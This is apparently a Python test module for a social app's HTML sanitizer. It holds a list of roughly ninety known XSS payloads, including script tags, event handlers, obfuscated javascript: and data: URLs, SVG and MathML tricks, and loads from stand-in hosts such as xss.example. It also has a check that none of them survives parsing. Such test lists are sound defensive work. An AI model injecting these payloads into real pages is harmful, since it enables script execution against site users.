"""Known XSS payloads and the check that none of them survives into HTML (parsed as a browser would)."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

from socialchallenge.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<script/src=//xss.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<script type="module">import("//xss.example")</script>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<p onclick=alert(1)>click</p>",
    "<a href=\"https://ok.example\" onfocus=alert(1) autofocus>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    "<strong onmouseover=alert(1)>bold</strong>",
    # javascript:, data:, vbscript: URLs and obfuscated variants
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#10;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099'
    '&#0000114&#0000105&#0000112&#0000116:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>unquoted</a>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    # Markdown link and image syntax
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '[click](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.gif)",
    '![x](x" onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # malformed tags and parser confusion
    "<img src=\"x\"` `<script>alert(1)</script>\"` `>",
    "<a \"\"\"><script>alert(1)</script>\">",
    "<img/src=x/onerror=alert(1)>",
    "<a/href=javascript:alert(1)>x</a>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>unclosed <a href='javascript:alert(1)'",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    # frames, objects, embeds, meta and base
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # style and expression
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1));">x</div>',
    '<span style="behavior: url(xss.htc)">x</span>',
    '<a href="https://ok.example" style="position:fixed;top:0;left:0;width:100%;height:100%">cover</a>',
    # attribute-borne tricks on allowed tags
    '<a href="https://ok.example" target="_blank">x</a>',
    '<a href="https://ok.example" id="main" class="flash">x</a>',
    '<code class="x" data-x="1">x</code>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<a href="https://ok.example" formaction="javascript:alert(1)">x</a>',
]

DANGEROUS_SCHEMES = ("javascript", "data", "vbscript", "livescript")
URL_ATTRS = {"href", "src", "action", "formaction", "cite", "xlink:href", "background", "poster", "srcdoc"}


class Collector(HTMLParser):
    """Every start tag with its attributes, as a browser-like parser sees them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def parsed(output: str) -> list[tuple[str, dict[str, str | None]]]:
    """Every tag in the HTML with its attributes, as a browser's parser reads them."""
    parser = Collector()
    parser.feed(output)
    parser.close()
    return parser.tags


def scheme_of(url: str) -> str:
    # The parser has already decoded character references once, as a browser does; browsers also drop
    # ASCII whitespace and control characters inside a scheme, so do the same before looking.
    squeezed = re.sub(r"[\x00-\x20]", "", url).lower()
    return urlsplit(squeezed).scheme


def assert_safe(output: str) -> None:
    """Only allowed tags and attributes, no event handler, no script URL; links get rel="nofollow noopener"."""
    for tag, attrs in parsed(output):
        assert tag in ALLOWED_TAGS, f"tag <{tag}> survived: {output!r}"
        for name, value in attrs.items():
            assert name in ALLOWED_ATTRIBUTES.get(tag, []) + (["rel"] if tag == "a" else []), (
                f"attribute {name} on <{tag}> survived: {output!r}")
            assert not name.startswith("on")
            if name in URL_ATTRS and value is not None:
                assert scheme_of(value) not in DANGEROUS_SCHEMES, f"{value!r} survived: {output!r}"
                assert scheme_of(value) in {"", "http", "https", "mailto"}
        if tag == "a":
            assert attrs.get("rel") == "nofollow noopener"
